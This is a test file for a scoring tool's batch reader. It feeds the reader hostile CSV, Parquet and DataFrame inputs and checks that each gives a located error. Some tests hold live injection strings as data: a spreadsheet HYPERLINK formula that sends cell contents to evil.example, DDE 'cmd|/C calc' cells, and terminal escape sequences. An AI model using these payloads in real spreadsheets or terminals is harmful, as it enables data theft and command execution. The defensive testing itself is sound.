"""Hostile batch tables: each one a located error for the file or for its row, never exit 3.

Big inputs are generated here, at test time. Each test asserts what a bug would break: the
units read, the row and column reported, the batch going on past a bad row.
"""

from __future__ import annotations

import csv
import json
import resource
import subprocess
import sys
from decimal import Decimal, localcontext
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner

import perfrules
from perfrules.cli import cli
from perfrules.errors import FactsError
from perfrules.workflows._stream import stream_batch
from test_stream import SEED, seed_ids, write_units


def compiled_seed() -> perfrules.CompiledScheme:
    return perfrules.compile_scheme(perfrules.load_scheme(SEED))


def result_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.DictReader(stream))


def score_cli(*args: str, quiet: bool = False) -> tuple[int, str, str]:
    run = CliRunner().invoke(
        cli, [*(["-q"] if quiet else []), "score", str(SEED), *args, "--lang", "en"]
    )
    assert "internal error" not in run.output, run.output
    return run.exit_code, run.stdout, run.stderr


# --- the header: read once, the same bytes for every engine ------------------------------
def test_a_quoted_line_break_in_the_header_makes_no_phantom_unit(tmp_path):
    ids = [i for i, _ in seed_ids()]
    source = tmp_path / "units.csv"
    lines = ['unit,"note\nEVIL",' + ",".join(ids)]
    lines += [f"单位{n},," + ",".join(["50"] * len(ids)) for n in range(3)]
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
    outcome = stream_batch(compiled_seed(), source, tmp_path / "out.csv")
    assert outcome.units == 3
    assert [r["unit"] for r in result_rows(tmp_path / "out.csv")] == ["单位0", "单位1", "单位2"]


def test_duplicate_columns_are_refused_with_their_names(tmp_path):
    source = tmp_path / "units.csv"
    write_units(source, 2)
    text = source.read_text("utf-8").splitlines()
    first = text[0].split(",")[1]
    text[0] += f",{first}"
    text[1:] = [line + ",0.1" for line in text[1:]]
    source.write_text("\n".join(text) + "\n", encoding="utf-8")
    with pytest.raises(FactsError) as caught:
        stream_batch(compiled_seed(), source, tmp_path / "out.csv")
    (problem,) = caught.value.diagnostics
    assert problem.line == 1
    assert first in problem.format("en")
    code, out, _ = score_cli(str(source), "--out", str(tmp_path / "o.csv"), "--format", "json")
    assert code == 2
    document = json.loads(out)  # --format json prints a document even when nothing scored
    assert first in json.dumps(document, ensure_ascii=False)


# --- one encoding decision, a bad byte loses its row only ---------------------------------
def test_one_gbk_byte_in_a_utf8_file_is_that_rows_error(tmp_path):
    source = tmp_path / "units.csv"
    write_units(source, 5)
    data = source.read_bytes().replace("单位3".encode(), "单位3".encode("gbk"), 1)
    source.write_bytes(data)
    target = tmp_path / "out.csv"
    outcome = stream_batch(compiled_seed(), source, target)
    assert (outcome.units, outcome.failed_count) == (5, 1)
    (problem,) = outcome.failed[0].errors
    assert (problem.code, problem.line, problem.column) == ("PR108", 5, 1)
    units = [r["unit"] for r in result_rows(target)]
    assert units[:3] == ["单位0", "单位1", "单位2"]  # not read again as GB18030 garbage
    assert units[4] == "单位4"
    assert "PR108" in result_rows(target)[3]["errors"]


def test_a_gbk_row_past_the_first_mebibyte_loses_only_itself(tmp_path):
    source = tmp_path / "units.csv"
    write_units(source, 15_000)
    assert source.stat().st_size > 1 << 20
    data = source.read_bytes().replace("单位14000,".encode(), "单位14000,".encode("gbk"), 1)
    source.write_bytes(data)
    target = tmp_path / "out.csv"
    code, out, _ = score_cli(str(source), "--out", str(target), "--format", "json")
    assert code == 1
    document = json.loads(out)
    assert document["summary"]["scored"] == 14_999
    assert document["summary"]["failed"] == 1
    (failed,) = document["errors"]
    (problem,) = failed["diagnostics"]
    assert problem["code"] == "PR108"
    assert problem["line"] == 14_002  # header is line 1, unit 0 is line 2
    assert len(result_rows(target)) == 15_000


def test_a_whole_gb18030_file_is_read_as_gb18030_and_utf8_elsewhere(tmp_path):
    from perfrules.facts._sheets import csv_encoding

    text = "unit,a\n单位,1\n"
    assert csv_encoding(lambda: [text.encode("gb18030")]) == "gb18030"
    assert csv_encoding(lambda: [text.encode("utf-8")]) == "utf-8"
    # valid UTF-8 with Chinese first, then a GBK byte: UTF-8 with a broken byte
    assert csv_encoding(lambda: [text.encode() + "单".encode("gbk")]) == "utf-8"
    # not valid in either: UTF-8 (its bad bytes are reported where they are)
    assert csv_encoding(lambda: [b"unit,a\n\xff\xff,1\n"]) == "utf-8"


# --- budgets at the door ------------------------------------------------------------------
@pytest.mark.parametrize(
    ("header", "words"),
    [
        ("unit," + "x" * 200_000, "1,000"),
        ("unit," + ",".join(f"c{i}" for i in range(100_000)), "10,000 columns"),
        ("unit," + ",".join(f"c{i}" for i in range(1_000_000)), "1 MiB"),
    ],
    ids=["long-header-cell", "100k-columns", "1M-columns"],
)
def test_oversized_headers_are_refused_at_the_door(tmp_path, header, words):
    source = tmp_path / "units.csv"
    source.write_text(header + "\nu,1\n", encoding="utf-8")
    code, _, err = score_cli(str(source), "--out", str(tmp_path / "o.csv"))
    assert code == 2, err
    assert "PR418" in err
    assert words in err


def test_a_cell_of_megabytes_is_that_rows_error(tmp_path):
    source = tmp_path / "units.csv"
    write_units(source, 4)
    lines = source.read_text("utf-8").splitlines()
    cells = lines[3].split(",")
    cells[1] = "9" * (6 << 20)
    lines[3] = ",".join(cells)
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
    target = tmp_path / "out.csv"
    outcome = stream_batch(compiled_seed(), source, target)
    assert (outcome.units, outcome.failed_count) == (4, 1)
    (problem,) = outcome.failed[0].errors
    assert (problem.code, problem.line, problem.column) == ("PR418", 4, 2)
    assert len(problem.format("en")) < 500
    assert [r["unit"] for r in result_rows(target)] == ["单位0", "单位1", "单位2", "单位3"]


def test_a_row_longer_than_the_budget_is_skipped_without_being_held(tmp_path):
    source = tmp_path / "units.csv"
    write_units(source, 3)
    lines = source.read_text("utf-8").splitlines()
    lines.insert(2, "huge," + "7" * (20 << 20))
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
    outcome = stream_batch(compiled_seed(), source, tmp_path / "out.csv")
    assert (outcome.units, outcome.failed_count) == (4, 1)
    (problem,) = outcome.failed[0].errors
    assert (problem.code, problem.line) == ("PR418", 3)
    assert [r["unit"] for r in result_rows(tmp_path / "out.csv")][-1] == "单位2"


def test_parquet_unit_column_of_the_wrong_type_is_a_located_error(tmp_path):
    ids = [i for i, _ in seed_ids()]
    for kind, column in {
        "binary": pa.array([b"\xff\xfe", b"b"], type=pa.binary()),
        "list": pa.array([["a"], ["b"]]),
        "struct": pa.array([{"x": 1}, {"x": 2}]),
    }.items():
        source = tmp_path / f"{kind}.parquet"
        pq.write_table(pa.table({"unit": column, ids[0]: ["1", "2"]}), source)
        code, _, err = score_cli(str(source), "--out", str(tmp_path / "o.csv"))
        assert code in (1, 2), (kind, err)
        assert "unit" in err


# --- writers: wide enough for every score the scheme can produce ---------------------------
WIDE_SCHEME = """
[scheme]
id = "wide"
title = "wide"
year = 2021
version = "1.0.0"
max = 100000000000000000000000000000

[rounding]
mode = "half_up"
indicator = 10
total = 10

[inputs]
actual = { label = "a" }

[[bands]]
label = "A"
min = 0
max = 100000000000000000000000000000

[indicators.x]
weight = 100000000000000000000000000000
formula = "weight * min(actual, 1)"
"""


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
@pytest.mark.parametrize("streamed", [True, False])
def test_forty_digit_scores_are_written_exactly(tmp_path, suffix, streamed):
    from perfrules.workflows._batch import score_batch, write_results

    compiled = perfrules.compile_scheme(perfrules.loads_scheme(WIDE_SCHEME))
    source = tmp_path / "units.csv"
    source.write_text("unit,x\nu1,0.3333333333\nu2,1\n", encoding="utf-8")
    target = tmp_path / f"out{suffix}"
    if streamed:
        stream_batch(compiled, source, target)
    else:
        write_results(score_batch(compiled, source), compiled, target)
    if suffix == ".csv":
        totals = [r["total"] for r in result_rows(target)]
    else:
        totals = [str(v) for v in pq.read_table(target).column("total").to_pylist()]
    assert totals == [
        "33333333330000000000000000000.0000000000",
        "100000000000000000000000000000.0000000000",
    ]


def test_chunks_of_narrow_and_wide_scores_share_the_schemes_type(tmp_path):
    compiled = perfrules.compile_scheme(perfrules.loads_scheme(WIDE_SCHEME))
    source = tmp_path / "units.csv"
    source.write_text("unit,x\nu0,0\nu1,1\n", encoding="utf-8")
    target = tmp_path / "out.parquet"
    stream_batch(compiled, source, target, rows=1)  # the first chunk fits decimal128
    column = pq.read_table(target).column("total")
    assert pa.types.is_decimal256(column.type)
    assert [str(v) for v in column.to_pylist()] == [
        "0E-10",
        "100000000000000000000000000000.0000000000",
    ]


def _points_scheme(points: int) -> str:
    """WIDE_SCHEME's shape, worth *points*, scores to two places."""
    return (
        WIDE_SCHEME.replace("100000000000000000000000000000", str(points))
        .replace("indicator = 10", "indicator = 2")
        .replace("total = 10", "total = 2")
    )


@pytest.mark.parametrize(
    ("points", "precision"),
    [(100, 18), (10**14, 18), (10**15, 38), (10**29, 38)],  # decimal256: WIDE_SCHEME
)
def test_each_score_column_takes_the_narrowest_type_that_holds_the_scheme(
    tmp_path, points, precision
):
    from perfrules.workflows._table import decimal_type

    compiled = perfrules.compile_scheme(perfrules.loads_scheme(_points_scheme(points)))
    # the digits of the points, one more for rounding up, two places
    assert decimal_type(compiled, 2).precision == precision
    source = tmp_path / "units.csv"
    source.write_text("unit,x\nu0,0.123\nu1,1\n", encoding="utf-8")
    target = tmp_path / "out.parquet"
    stream_batch(compiled, source, target)
    table = pq.read_table(target)
    assert table.schema.field("total").type.precision == precision
    stored = pq.ParquetFile(target).schema.column(table.schema.get_field_index("x"))
    assert stored.physical_type == ("INT64" if precision == 18 else "FIXED_LEN_BYTE_ARRAY")
    with localcontext() as context:
        context.prec = 80  # 30 digits and places: past the default 28
        expected = [(Decimal(points) * Decimal("0.123")).quantize(Decimal("0.01")), points]
        assert table.column("x").to_pylist() == expected


def test_scores_of_18_digits_beside_a_total_of_more_stream_to_parquet_exactly(tmp_path):
    # The total takes 19 digits (10 places) and a decimal128(38); x 11 (2 places), a
    # decimal64 where the writer takes one: each column its own words, each value exact.
    text = WIDE_SCHEME.replace("100000000000000000000000000000", "10000000")
    compiled = perfrules.compile_scheme(
        perfrules.loads_scheme(text.replace("indicator = 10", "indicator = 2"))
    )
    source = tmp_path / "units.csv"
    source.write_text("unit,x\nu0,0.123456789012\nu1,1\nu2,abc\n", encoding="utf-8")
    target = tmp_path / "out.parquet"
    stream_batch(compiled, source, target)
    table = pq.read_table(target)
    assert table.schema.field("x").type == pa.decimal128(18, 2)
    assert table.schema.field("total").type == pa.decimal128(38, 10)
    assert table.column("x").to_pylist() == [Decimal("1234567.89"), 10000000, None]
    assert table.column("total").to_pylist() == [Decimal("1234567.8900000000"), 10000000, None]


#: The column types a short decimal is made in (pyarrow before 18 has no decimal64).
_SHORT = [pa.decimal128(18, 2), *([pa.decimal64(18, 2)] if hasattr(pa, "decimal64") else [])]


@pytest.mark.parametrize("kind", _SHORT)
@pytest.mark.parametrize("wide", [False, True])
def test_a_value_past_its_columns_precision_widens_the_column_never_wraps(wide, kind):
    import numpy as np

    from perfrules.workflows._table import _decimals

    big = 10**18 if not wide else 10**20  # past 18 digits: int64, or Python integers
    ints = np.array([big, -big, 5], dtype=np.int64 if not wide else object)
    valid = np.array([True, True, True])
    column = _decimals(ints, 2, valid, kind=kind)
    assert column.type == pa.decimal128(38, 2)
    assert column.to_pylist() == [Decimal(big) / 100, Decimal(-big) / 100, Decimal("0.05")]
    # eighteen nines, either sign, are the most the column holds: it stays as it is
    edge = np.array([10**18 - 1, -(10**18) + 1, 7], dtype=np.int64)
    fits = _decimals(edge, 2, np.array([True, True, False]), kind=kind)
    assert fits.type == kind
    assert fits.to_pylist() == [Decimal(10**18 - 1) / 100, Decimal(-(10**18) + 1) / 100, None]


def test_xlsx_results_are_appended_without_scanning_the_sheet(tmp_path, monkeypatch):
    pytest.importorskip("openpyxl")
    from openpyxl.worksheet.worksheet import Worksheet

    from perfrules.workflows._batch import score_batch, write_results

    asked = []
    real = Worksheet.max_row
    monkeypatch.setattr(
        Worksheet, "max_row", property(lambda sheet: asked.append(1) or real.fget(sheet))
    )
    source = tmp_path / "units.csv"
    write_units(source, 600)
    compiled = compiled_seed()
    outcome = score_batch(compiled, source)
    write_results(outcome, compiled, tmp_path / "out.xlsx")
    assert len(asked) <= 2  # once for the whole sheet, never once a row
    asked.clear()
    import openpyxl

    book = openpyxl.load_workbook(tmp_path / "out.xlsx")
    summary = book["summary"]
    assert summary.max_row == 601
    assert summary.cell(2, 1).value == "单位0"


def test_unit_option_keeps_one_trace(tmp_path, monkeypatch):
    source = tmp_path / "units.csv"
    write_units(source, 300)
    traced = []
    real = perfrules.CompiledScheme.evaluate

    def counting(self, facts, *, trace=True, cohort=None):
        traced.append(trace)
        return real(self, facts, trace=trace, cohort=cohort)

    monkeypatch.setattr(perfrules.CompiledScheme, "evaluate", counting)
    code, out, _ = score_cli(str(source), "--unit", "单位250", "--format", "json")
    assert code == 0
    assert json.loads(out)["provenance"]["unit"] == "单位250"
    assert traced.count(True) == 1


def test_escape_codes_in_unit_names_never_reach_the_no_such_unit_message(tmp_path):
    source = tmp_path / "units.csv"
    write_units(source, 3)
    text = source.read_text("utf-8")
    text = text.replace("单位0", "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\")
    text = text.replace("单位1", "\x1b[2J\x1b[H" + "x" * 5000)
    source.write_text(text, encoding="utf-8")
    run = CliRunner().invoke(cli, ["score", str(SEED), str(source), "--unit", "\x1b[31mnope"])
    assert run.exit_code == 2
    assert "\x1b" not in run.output
    assert "no unit" in run.output
    assert "<U+001B>" in run.output  # shown by name, never sent
    assert len(run.output) < 2000


def test_the_terminal_summary_cuts_long_cells_before_layout(tmp_path):
    # The summary is printed without -q (with -q only the problems are, each at its row).
    source = tmp_path / "units.csv"
    write_units(source, 3, bad={1: "0,93"})
    text = source.read_text("utf-8").replace("单位1", "名" * 300_000)
    source.write_text(text, encoding="utf-8")
    code, _, err = score_cli(str(source), "--out", str(tmp_path / "o.csv"))
    assert code == 1
    assert "PR402" in err
    assert "名" * 50 in err
    assert len(err) < 20_000


def test_a_formula_in_a_cohort_column_is_inert_in_every_writer(tmp_path):
    from perfrules.workflows._batch import score_batch, write_results
    from test_stream import PROCUREMENT

    compiled = perfrules.compile_scheme(perfrules.load_scheme(PROCUREMENT))
    lot = '=HYPERLINK("http://evil.example/"&A1,"x")'
    source = tmp_path / "bids.csv"
    with source.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(
            ["unit", "shared.lot", "shared.bid", "shared.valid", "技术.marks", "商务.marks"]
        )
        writer.writerow(["甲", lot, "980000", "是", "42.5", "16"])
        writer.writerow(["乙", lot, "950000", "是", "40", "17"])
    in_memory, streamed = tmp_path / "memory.csv", tmp_path / "streamed.csv"
    write_results(score_batch(compiled, source), compiled, in_memory)
    stream_batch(compiled, source, streamed)
    for target in (in_memory, streamed):
        rows = result_rows(target)
        assert [r["lot"] for r in rows] == ["'" + lot] * 2, target.name


# --- score_table: only documented errors, at the door ------------------------------------
IND = "数量-平安建设"


def hostile_frames():
    import pandas as pd
    import polars as pl

    return {
        "mixed-object": (pd.DataFrame({"unit": ["a", "b"], IND: [1, "x"]}), None),
        "float-and-decimal": (pd.DataFrame({"unit": ["a", "b"], IND: [0.5, Decimal(2)]}), None),
        "dicts": (pd.DataFrame({"unit": ["a", "b"], IND: [{"a": 1}, {"b": 2}]}), None),
        "ten-to-the-40": (pd.DataFrame({"unit": ["a", "b"], IND: [10**40, 1]}), None),
        "duplicate-names": (pd.DataFrame([["a", 1, 2]], columns=["unit", IND, IND]), "PR420"),
        "period": (
            pd.DataFrame({"unit": ["a"], IND: pd.period_range("2020", periods=1, freq="Y")}),
            "PR419",
        ),
        "complex": (pd.DataFrame({"unit": ["a"], IND: [1 + 2j]}), None),
        "non-utf8-unit": (pd.DataFrame({"unit": [b"\xff\xfe"], IND: ["1"]}), "PR419"),
        "polars-list": (pl.DataFrame({"unit": ["a"], IND: [[1, 2]]}), None),
        "polars-int128": (
            pl.DataFrame({"unit": ["a"], IND: pl.Series([1], dtype=pl.Int128)}),
            None,
        ),
        "dictionary-of-lists": (
            pa.table(
                {
                    "unit": ["a", "b"],
                    IND: pa.DictionaryArray.from_arrays(
                        pa.array([0, 1]), pa.array([["1"], ["2"]])
                    ),
                }
            ),
            None,
        ),
        "unit-list": (pa.table({"unit": pa.array([["a"], ["b"]]), IND: ["1", "2"]}), "PR419"),
        "objects": (pd.DataFrame({"unit": ["a"], IND: [object()]}), "PR419"),
        "20000-columns": (pd.DataFrame({f"c{i}": [1] for i in range(20_000)}), "PR418"),
    }


@pytest.mark.parametrize("case", list(hostile_frames()))
def test_score_table_raises_only_documented_errors(case):
    pytest.importorskip("polars")
    frame, code = hostile_frames()[case]
    compiled = compiled_seed()
    if code is None:  # scored: a bad cell is that row's located error
        out = perfrules.score_table(compiled, frame)
        errors = nw_rows(out)
        assert all(e is None or "table:" in e for e in errors)
        return
    with pytest.raises(FactsError) as caught:
        perfrules.score_table(compiled, frame)
    (problem,) = caught.value.diagnostics
    assert problem.code == code
    if code == "PR419":
        assert "unit" in problem.format("en") or IND in problem.format("en")


def nw_rows(out) -> list[str | None]:
    import narwhals.stable.v2 as nw

    return nw.from_native(out, eager_only=True).get_column("errors").to_list()


def test_mixed_cells_are_read_as_the_text_they_show():
    import pandas as pd

    frame = pd.DataFrame({"unit": ["a", "b"], IND: [1, "0,93"]})
    errors = nw_rows(perfrules.score_table(compiled_seed(), frame))
    assert "table:2:2: error[PR402]: cannot read 0,93" in errors[1]


# --- Parquet pages that ask for more than they hold ---------------------------------------
def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        if n < 0x80:
            out.append(n)
            return bytes(out)
        out.append((n & 0x7F) | 0x80)
        n >>= 7


def _compact(fields: dict[int, object]) -> bytes:
    """A Thrift compact struct of i32 fields and nested structs (what a page header needs)."""
    out = bytearray()
    last = 0
    for ident in sorted(fields):
        value = fields[ident]
        kind = 12 if isinstance(value, dict) else 5
        out.append(((ident - last) << 4) | kind)
        last = ident
        if isinstance(value, dict):
            out += _compact(value)
        else:
            out += _varint((value << 1) ^ (value >> 63))
    out.append(0)
    return bytes(out)


def hostile_parquet(tmp_path: Path, change) -> Path:
    """A Parquet file whose first page header says what *change* makes it say.

    The header is rewritten in place: the bytes it grows by are taken from its page's
    data, so every offset in the footer still holds (the page is damaged past its header,
    which only matters to a reader that goes that far).
    """
    from perfrules.workflows._stream import read_thrift

    path = tmp_path / "hostile.parquet"
    column = pa.array(["50%"] * 10 + ["60%"] * 10).dictionary_encode()
    pq.write_table(pa.table({"unit": [f"u{i}" for i in range(20)], IND: column}), path)
    data = bytearray(path.read_bytes())
    chunk = pq.ParquetFile(path).metadata.row_group(0).column(1)
    start = chunk.dictionary_page_offset
    header, size = read_thrift(bytes(data[start : start + 4096]))
    assert 7 in header  # a dictionary page
    header = {k: v for k, v in header.items() if k in (1, 2, 3, 7)}
    header[7] = {k: v for k, v in header[7].items() if k in (1, 2)}
    change(header)
    new = _compact(header)
    grown = len(new) - size
    header[3] -= grown
    new = _compact(header)
    assert len(new) == size + grown
    data[start : start + size + grown] = new
    path.write_bytes(bytes(data))
    return path


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (lambda h: h.__setitem__(2, 2_500_000_000), "2,500,000,000 bytes"),
        (lambda h: h[7].__setitem__(1, 12_000_000), "12,000,000 values"),
    ],
    ids=["page-of-2.5-GB", "dictionary-of-12M-values"],
)
def test_parquet_pages_asking_for_too_much_are_refused(tmp_path, change, words):
    path = hostile_parquet(tmp_path, change)
    code, _, err = score_cli(str(path), "--out", str(tmp_path / "o.csv"))
    assert code == 2, err
    said = " ".join(err.split())
    assert "PR418" in said
    assert words in said


# --- CSV results: the dialect, and standard output ---------------------------------------
def units_folder(tmp_path: Path) -> Path:
    folder = tmp_path / "units"
    folder.mkdir()
    facts = SEED.parent / "facts.toml"
    for name in ("a", "b"):
        (folder / f"{name}.toml").write_text(facts.read_text("utf-8"), encoding="utf-8")
    return folder


@pytest.mark.parametrize("source_kind", ["streamed-csv", "in-memory-folder"])
def test_csv_results_take_bom_and_line_ending_options(tmp_path, source_kind):
    if source_kind == "streamed-csv":
        source = tmp_path / "units.csv"
        write_units(source, 2)
    else:
        source = units_folder(tmp_path)
    target = tmp_path / "out.csv"
    code, _, err = score_cli(str(source), "--out", str(target))
    assert code == 0, err
    data = target.read_bytes()
    assert data.startswith("\ufeff".encode())  # the default: Excel reads UTF-8
    assert b"\r\n" not in data
    assert data.count(b"\n") == 3
    code, _, err = score_cli(
        str(source), "--out", str(target), "--no-csv-bom", "--csv-eol", "crlf"
    )
    assert code == 0, err
    data = target.read_bytes()
    assert data.startswith((b'"unit"', b"unit"))
    assert data.count(b"\r\n") == 3


@pytest.mark.parametrize("source_kind", ["streamed-csv", "in-memory-folder"])
def test_out_dash_writes_the_results_to_stdout(tmp_path, source_kind):
    if source_kind == "streamed-csv":
        source = tmp_path / "units.csv"
        write_units(source, 2)
    else:
        source = units_folder(tmp_path)
    code, out, err = score_cli(str(source), "--out", "-", "--no-csv-bom")
    assert code == 0, err
    rows = list(csv.DictReader(out.splitlines()))
    assert len(rows) == 2
    assert rows[0]["total"]
    assert "2 units scored" in err  # the summary on stderr, the data alone on stdout
    assert not list(tmp_path.glob("-*"))


def test_the_streamed_csv_rule_is_the_cell_rule():
    from perfrules.reports._safe import FORMULA_STARTS, csv_text
    from perfrules.workflows._stream import _inert

    cells = ["plain", "", "单位", "'quoted", *(f"{p}cmd|' /C calc'!A0" for p in FORMULA_STARTS)]
    cells += [f"x{p}" for p in FORMULA_STARTS]
    assert _inert(pa.array(cells)).to_pylist() == [csv_text(c) for c in cells]


def test_the_in_memory_reading_loses_only_the_bad_row_too(tmp_path):
    from perfrules.workflows._batch import score_batch

    source = tmp_path / "units.csv"
    write_units(source, 5)
    source.write_bytes(source.read_bytes().replace("单位3".encode(), "单位3".encode("gbk"), 1))
    outcome = score_batch(compiled_seed(), source)
    assert [u.unit for u in outcome.units][:3] == ["单位0", "单位1", "单位2"]
    (failed,) = outcome.failed
    (problem,) = failed.errors
    assert (problem.code, problem.line, problem.column) == ("PR108", 5, 1)
    assert problem.params["byte"] == "0x{:02X}".format("单".encode("gbk")[0])
    data = source.read_bytes()
    assert data[problem.params["position"]] == "单".encode("gbk")[0]
    assert len(outcome.scored) == 4


def test_the_in_memory_reading_refuses_duplicate_columns(tmp_path):
    from perfrules.workflows._batch import score_batch

    source = tmp_path / "units.csv"
    source.write_text(f"unit,{IND},{IND}\nu,0.9,0.1\n", encoding="utf-8")
    with pytest.raises(FactsError) as caught:
        score_batch(compiled_seed(), source)
    assert caught.value.diagnostics[0].code == "PR420"


def test_parquet_text_that_is_not_utf8_is_a_located_error_not_a_crash(tmp_path):
    path = tmp_path / "units.parquet"
    pq.write_table(
        pa.table({"unit": ["u0", "u1"], IND: ["ZZZZ", "50%"]}),
        path,
        compression="none",
        use_dictionary=False,
        write_statistics=False,
    )
    assert path.read_bytes().count(b"ZZZZ") == 1  # the cell's bytes, nowhere else
    path.write_bytes(path.read_bytes().replace(b"ZZZZ", b"\xdf\xff\xfe\xfd"))
    code, _, err = score_cli(str(path), "--out", str(tmp_path / "o.csv"))
    assert code == 2, err
    said = " ".join(err.split())
    assert "PR419" in said
    assert "not valid UTF-8" in said


def test_a_page_header_with_a_wrong_field_type_is_unreadable_not_a_crash(tmp_path):
    def struct_for_size(header):
        header[2] = {1: 5}  # a struct where the page size should be

    path = hostile_parquet(tmp_path, struct_for_size)
    code, _, err = score_cli(str(path), "--out", str(tmp_path / "o.csv"))
    assert code == 2, err
    assert "PR105" in err


# --- under a real address-space cap -------------------------------------------------------
CAP_BYTES = 512 << 20


def capped_score(source: Path, target: Path) -> subprocess.CompletedProcess[str]:
    """``perfrules score`` in a child process that cannot map more than 512 MiB."""

    def cap() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (CAP_BYTES, CAP_BYTES))

    return subprocess.run(
        [sys.executable, "-m", "perfrules", "score", str(SEED), str(source), "--out", str(target)],
        capture_output=True,
        text=True,
        preexec_fn=cap,
        timeout=300,
        check=False,
    )


@pytest.mark.skipif(sys.platform != "linux", reason="RLIMIT_AS caps the address space on Linux")
@pytest.mark.parametrize(
    "kind", ["million-columns", "megabytes-cell", "gbk-row", "parquet-page", "wide-units"]
)
def test_hostile_tables_hold_under_a_512_mib_address_space_cap(tmp_path, kind):
    source = tmp_path / "units.csv"
    if kind == "million-columns":
        source.write_text("unit," + ",".join(f"c{i}" for i in range(1_000_000)) + "\nu,1\n")
        expected = {2}
    elif kind == "megabytes-cell":
        write_units(source, 3)
        source.write_text(source.read_text("utf-8") + "u," + "9" * (8 << 20) + "\n")
        expected = {1}
    elif kind == "gbk-row":
        write_units(source, 15_000)
        data = source.read_bytes().replace("单位14000,".encode(), "单位14000,".encode("gbk"), 1)
        source.write_bytes(data)
        expected = {1}
    elif kind == "parquet-page":
        source = hostile_parquet(tmp_path, lambda h: h.__setitem__(2, 2_000_000_000))
        expected = {2}
    else:
        write_units(source, 60_000)
        expected = {0, 1}
    run = capped_score(source, tmp_path / "out.csv")
    assert run.returncode in expected, run.stderr[-2000:]
    assert "internal error" not in run.stderr


def test_json_lines_locate_rows_across_chunks_and_bad_rows(tmp_path):
    source = tmp_path / "units.csv"
    write_units(source, 6, bad={4: "0,93"})
    lines = source.read_text("utf-8").splitlines()
    lines[2] += ",extra"  # unit 1 (line 3) has a cell too many
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
    target = tmp_path / "out.jsonl"
    outcome = stream_batch(compiled_seed(), source, target, rows=2)
    assert (outcome.units, outcome.failed_count) == (6, 2)
    written = [json.loads(line) for line in target.read_text("utf-8").splitlines()]
    assert [w["unit"] for w in written] == [f"单位{n}" for n in range(6)]
    assert written[1]["errors"][0]["line"] == 3
    assert written[4]["errors"][0]["line"] == 6  # unit 4: header 1, unit 0 on line 2
